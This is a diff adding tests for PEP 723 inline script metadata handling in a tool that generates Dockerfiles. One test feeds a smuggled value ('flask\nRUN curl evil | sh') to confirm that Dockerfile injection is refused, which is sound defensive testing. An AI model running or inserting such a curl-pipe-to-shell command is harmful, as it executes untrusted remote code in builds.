@@ -334,6 +334,59 @@ describe("detection", () => {
             assert.deepEqual(plan.server.addedPackages, []);
         });
 
+        describe("PEP 723 inline script metadata", () => {
+            const block = (toml: string) => `# /// script\n${toml.split("\n").map((l) => (l === "" ? "#" : `# ${l}`)).join("\n")}\n# ///\n${FLASK_APP}`;
+
+            it("GIVEN a single-file app with a `# /// script` block THEN pip installs its requirements from a list in the Dockerfile, before the source, within its requires-python", () => {
+                const r = synthesize(apps.make({ "app.py": block('requires-python = "<3.13"\ndependencies = [\n    "flask==3.1.2",\n    "gunicorn>=23",\n]') }));
+                assert.equal(r.plan.installer, "pip");
+                assert.equal(r.plan.manifest, "app.py");
+                assert.deepEqual(r.plan.manifests, []);
+                assert.equal(r.plan.python.version, "3.12");
+                assert.deepEqual(r.plan.server.addedPackages, []);
+                const lines = r.dockerfile.split("\n");
+                const heredoc = lines.indexOf("COPY <<'EOF' /tmp/script-requirements.txt");
+                assert.deepEqual(lines.slice(heredoc, heredoc + 4), ["COPY <<'EOF' /tmp/script-requirements.txt", "flask==3.1.2", "gunicorn>=23", "EOF"]);
+                assert.ok(lines.includes("    pip install -r /tmp/script-requirements.txt \\"));
+                assert.ok(heredoc < lines.indexOf("# The source, straight from the build context."));
+            });
+
+            it("GIVEN a `# ///` line followed by more comment lines THEN the last one closes the block, as the PEP's reader takes it (here: not TOML, refused)", () => {
+                const dir = apps.make({ "app.py": `# /// script\n# dependencies = ["flask"]\n# ///\n# x = 1\n# ///\n${FLASK_APP}` });
+                assert.throws(() => synthesize(dir), (e: unknown) => e instanceof InputError && e.message === "app.py's PEP 723 `# /// script` block is not valid TOML (line 2, column 1: illegal character in key). Fix the block.");
+            });
+
+            it("GIVEN a project named EOF THEN it is written in lower case, so it cannot end the heredoc", () => {
+                const lines = synthesize(apps.make({ "app.py": block('dependencies = ["flask", "EOF"]') })).dockerfile.split("\n");
+                const heredoc = lines.indexOf("COPY <<'EOF' /tmp/script-requirements.txt");
+                assert.deepEqual(lines.slice(heredoc, heredoc + 4), ["COPY <<'EOF' /tmp/script-requirements.txt", "flask", "eof", "EOF"]);
+            });
+
+            it("GIVEN a requirement that is not PEP 508, a newline in one, an unclosed block, two scripts THEN InputError names the file and the fix", () => {
+                const refused = (files: Record<string, string>) => {
+                    try {
+                        synthesize(apps.make(files));
+                    } catch (e) {
+                        assert.ok(e instanceof InputError);
+                        return e.message;
+                    }
+                    return "not refused";
+                };
+                assert.equal(refused({ "app.py": block('dependencies = ["flask >>> 3"]') }), 'app.py\'s PEP 723 block lists "flask >>> 3", which is not a PEP 508 requirement; fix the line.');
+                assert.equal(refused({ "app.py": block('dependencies = ["flask\\nRUN curl evil | sh"]') }), 'app.py\'s PEP 723 block lists "flask\\nRUN curl evil | sh", which is not a PEP 508 requirement; fix the line.');
+                assert.equal(refused({ "app.py": block('dependencies = ["lib @ file:///src/lib"]') }), 'app.py\'s PEP 723 block lists "lib @ file:///src/lib", which is not a package the build can fetch (a local file URL); fix the line.');
+                assert.equal(refused({ "app.py": `# /// script\n# dependencies = []\n${FLASK_APP}` }), "app.py opens a PEP 723 `# /// script` block that no `# ///` line closes (every line between is `#` or `# ` and text); close the block.");
+                assert.equal(
+                    refused({ "app.py": block('dependencies = ["flask"]'), "tool.py": block('dependencies = ["rich"]') }),
+                    "app.py and tool.py each declare dependencies in a PEP 723 `# /// script` block, and the image installs one app's: put the app's dependencies in a pyproject.toml or requirements.txt, or keep the block in the app's file only.",
+                );
+            });
+
+            it("GIVEN a requirements.txt beside a script block THEN requirements.txt decides", () => {
+                assert.equal(synthesize(apps.make({ "app.py": block('dependencies = ["flask"]'), "requirements.txt": "flask\n" })).plan.manifest, "requirements.txt");
+            });
+        });
+
         describe("a PEP 751 lock (pylock.toml)", () => {
             /** A pylock.toml of index packages (name, version, optional marker), as the lockers write them. */
             const pylock = (head: string, pkgs: Array<[string, string, string?]>, extra = ""): string =>
